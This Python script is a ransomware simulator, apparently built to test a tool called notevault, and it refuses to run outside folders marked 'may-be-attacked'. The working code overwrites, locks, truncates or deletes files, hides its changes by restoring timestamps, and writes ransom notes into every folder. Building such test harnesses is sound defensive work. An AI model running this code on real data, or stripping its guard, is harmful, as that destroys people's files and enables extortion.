"""A program that destroys files for ransom, as such programs do: `python -I attack.py HOW COUNT FOLDER...`;
a single file may stand for a folder.

It is a process of its own, knows nothing of notevault and uses nothing of it. HOW:
    scramble   every file overwritten in place, as long as before
    lock       the encrypted file under a new name, `.locked`, the old one removed
    shorten    the first half overwritten, the rest cut off
    delete     files removed, their folders too
    touchless  scrambled, and the file's times put back
    letter     nothing but the letter asking for money, in every folder
COUNT files of all folders together, those that are not destroyed yet, in the order of their hashed names; 0: all.
It touches nothing outside a folder that has, or whose parents have, a file `may-be-attacked`.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import sys
from pathlib import Path

LEAVE, LETTER, MARK = "may-be-attacked", "HOW-TO-GET-YOUR-FILES-BACK.txt", b"RANSOMED"


def allowed(folder: Path) -> bool:
    return any((parent / LEAVE).is_file() for parent in (folder, *folder.parents))


def scrambled(data: bytes) -> bytes:
    """As long as before, and never again what it was."""
    stream = hashlib.shake_256(b"key" + hashlib.sha256(data).digest()).digest(len(data))
    return (MARK + stream)[: len(data)]


def destroy(path: Path, how: str) -> None:
    if how == "delete":
        path.unlink()
        return
    kept, data = path.stat(), path.read_bytes()
    path.chmod(0o600)
    if how == "lock":
        path.with_name(path.name + ".locked").write_bytes(scrambled(data))
        path.unlink()
        return
    with path.open("r+b") as file:
        file.write(scrambled(data)[: max(1, len(data) // 2)] if how == "shorten" else scrambled(data))
        file.truncate(max(1, len(data) // 2) if how == "shorten" else len(data))
    if how == "touchless":
        os.utime(path, ns=(kept.st_atime_ns, kept.st_mtime_ns))


def left(folder: Path) -> list[Path]:
    found = []
    for path in [folder] if folder.is_file() else folder.rglob("*"):
        if path.is_symlink() or not path.is_file() or path.name in (LETTER, LEAVE) or path.suffix == ".locked":
            continue
        with path.open("rb") as file:
            if file.read(len(MARK)) != MARK:
                found.append(path)
    return sorted(found, key=lambda path: hashlib.sha256(path.name.encode()).digest())


def main(how: str, count: int, folders: list[Path]) -> int:
    if not all(allowed(folder) for folder in folders):
        sys.stderr.write("not here\n")
        return 2
    if how != "letter":
        victims = [path for folder in folders for path in left(folder)]
        for path in victims[: count or None]:
            destroy(path, how)
    for folder in folders:
        for one in [folder, *(path for path in folder.rglob("*") if path.is_dir())]:
            if how == "delete" and not count:
                with contextlib.suppress(OSError):
                    one.rmdir()
            elif one.is_dir():
                (one / LETTER).write_text("Pay, or your files are lost.\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1], int(sys.argv[2]), [Path(word) for word in sys.argv[3:]]))
